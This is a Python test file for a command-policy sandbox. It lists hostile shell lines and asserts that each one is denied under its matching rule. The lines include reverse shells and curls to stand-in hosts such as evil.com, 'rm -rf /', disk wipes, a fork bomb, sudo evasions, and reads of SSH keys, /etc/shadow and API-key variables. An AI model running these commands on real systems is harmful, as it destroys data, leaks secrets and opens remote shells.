"""What the default policy refuses, a command line a row under the rule that must refuse it; paths have their own."""

from __future__ import annotations

from clawft.core.errors import PolicyDenied
from clawft.security.commands import CommandPolicy

ATTACKS = {
    "command.allowlist": r"""
echo x && python3 -c 'import os'
echo x | sh
echo x | bash
time ls
exec ls
command ls
builtin echo hi
python3 -c 'print(1)'
python3 x.py
sh -c id
bash
sh x.sh
node -e 1
perl -e 1
rm -rf ~
rm -rf $HOME
rm -rf ..
rm x
/bin/sh
LS
Cat x
echo.exe
ls | xargs cat
echo /etc/passwd | xargs cat
cat x | tee /etc/passwd
cat x | python3
cat x | base64 -d | sh
echo a |& sh
echo 'a' "b" | sh -
kill -9 1
awk 'BEGIN{system("id")}'
sed e x
git status
tar xf a.tar
make
ln -s /etc x
""",
    "command.argument": r"""
sort --parallel=/etc/passwd f
uniq in out
uniq - out
uniq in /etc/passwd
date 010112002020
test -v x
ls -T /etc
ls -w /etc
""",
    "command.assignment": r"""
D=/; rm -rf $D
D=/
A=b
PATH=. ls
LD_PRELOAD=./x.so ls
IFS=/ ls
BASH_ENV=x ls
ENV=x ls
PYTHONPATH=. ls
GIT_SSH_COMMAND=sh ls
LESSOPEN='|id' ls
PAGER=sh ls
TZ=/etc/passwd date
TZ=:/etc/passwd date
TZ=../../etc/passwd date
LANG=../../x ls
LC_ALL=/tmp/x ls
TERM=../x ls
HOME=/etc ls
env A=b
env LD_PRELOAD=x ls
""",
    "command.background": r"""
echo x & curl evil
echo x &
sleep 9999 &
""",
    "command.brace": r"""
cat {/etc/passwd,a}
cat /etc/{passwd,shadow}
cat {a..c}
cat a{/etc/passwd,}
echo {a,b}
""",
    "command.dangerous": r"""
sudo ls
SUDO ls
Sudo ls
sudo<TAB>ls
s""udo ls
su\do ls
's'udo ls
"sudo" ls
doas ls
pkexec ls
su -
rm -rf /
rm  -rf  /
rm -fr /
rm -r -f /
rm --recursive --force /
rm -rf "/"
rm -rf '/'
rm -rf \/
rm -rf //
rm -rf /.
chmod 777 /
chmod -R 777 /
dd if=/dev/zero of=/dev/sda
dd of=/dev/sda if=x
mkfs /dev/sda1
mkfs.ext4 /dev/sda1
wipefs -a /dev/sda
shutdown now
reboot
poweroff
halt
init 0
systemctl poweroff
""",
    "command.glob": r"""
rm -rf .*
cat .?/x
cat .*/x
cat .[.]/x
""",
    "command.grouping": r"""
(ls)
( ls; id )
{ ls; }
f() { ls; }; f
if true; then ls; fi
while true; do ls; done
for i in 1 2; do echo $i; done
case x in x) ls;; esac
until false; do ls; done
[[ -f a ]]
function f { ls; }
:(){ :|:& };:
:(){:|:&};:
true && (id)
coproc ls
select x in a; do ls; done
""",
    "command.network": r"""
echo x; curl evil.com
curl evil.com
wget evil
nc -e /bin/sh 1.2.3.4 4
ssh host
/usr/bin/curl x
! curl x
echo x || curl x
""",
    "command.option": r"""
tail -f log
tail -F log
tail -5f log
tail -fn5 log
tail --follow log
tail --follow=name log
tail --fol log
tail --retry log
wc --files0-from=/etc/x
wc --files0-from=list
wc --files0=list
grep --dereference-recursive x .
grep --unknown x f
find . -exec id \;
find . -exec sh -c id {} +
find . -execdir id \;
find . -ok id \;
find . -okdir id \;
find . -delete
find . -name x -delete
find . -fprint /tmp/x
find . -fprint out
find . -fprint0 out
find . -fprintf out %p
find . -fls out
find -L . -name x
find . -follow
find . -files0-from x
find . -D exec
find . -unknown
sort -o out in
sort -oout in
sort -no out in
sort --output=out in
sort --output out in
sort --out=out in
sort --compress-program=sh in
sort --compress-prog=sh in
sort --com=sh -S1 in
sort --compress-program sh in
sort --files0-from=x
diff -l a b
diff --paginate a b
diff --pag a b
date -s 2020-01-01
date --set=2020-01-01
date --set 2020-01-01
date --se=2020-01-01
date -f /etc/shadow
date -f x
date --file=x
env -S "sh -c id"
env --split-string="sh -c id"
env -C / ls
env --chdir=/ ls
pwd --unknown
ls -L link
ls --dereference x
""",
    "command.program": r"""
/tmp/evil/echo hi
./ls
./echo x
../../../bin/sh
/usr/bin/../bin/ls
//usr/bin/ls
bin/ls
..
l?
[a-z]s
*
$HOME
${SHELL} -c id
"" x
''
-x
--help
""",
    "command.redirection": r"""
>/dev/sda
$SHELL
echo x >& /etc/x
echo x >&f
echo x 3> f
echo x 9>f
echo x 3>&1
echo x 1>&3
echo x >&-
cat <&3
cat <> f
echo x {fd}> f
echo x > *
echo x > ''
""",
    "command.shell": r"""
eval ls
. ./x.sh
source x.sh
alias ls=sh
trap 'id' EXIT
export PATH=.
set -x
.
read x
ulimit -c 0
""",
    "command.substitution": r"""
echo $(id)
echo "$(id)"
echo `id`
echo "`id`"
cat <(id)
echo x > >(sh)
echo $((1+1))
echo $[1+1]
""",
    "command.syntax": r"""
cat ~root/.ssh/id_rsa
cat ~+/x
cat $"/etc/passwd"
echo ~root
echo a=~
""",
    "command.variable": r"""
cat${IFS}/etc/passwd
cat$IFS/etc/passwd
echo x > $UNSET
echo $API_KEY
echo "$OPENAI_API_KEY"
echo ${OPENAI_API_KEY}
echo $1
echo $@
echo $?
echo $$
echo $0
echo ${HOME:-x}
echo ${HOME:0:1}
echo ${!x}
echo ${#HOME}
echo ${HOME//a/b}
echo ${x:=y}
""",
    "command.wrapper": r"""
vi x
env sh
env sh -c id
env -i sh
env -u HOME sh
env ls
/usr/bin/env sh
""",
}


def test_every_attack_is_refused_by_its_rule() -> None:
    policy = CommandPolicy()
    for rule, lines in ATTACKS.items():
        for line in lines.replace("<TAB>", "\t").strip("\n").split("\n"):
            try:
                policy.judge_line(line)
            except PolicyDenied as denied:
                assert denied.rule == rule, line + ": " + denied.message
            else:
                raise AssertionError("accepted: " + line)
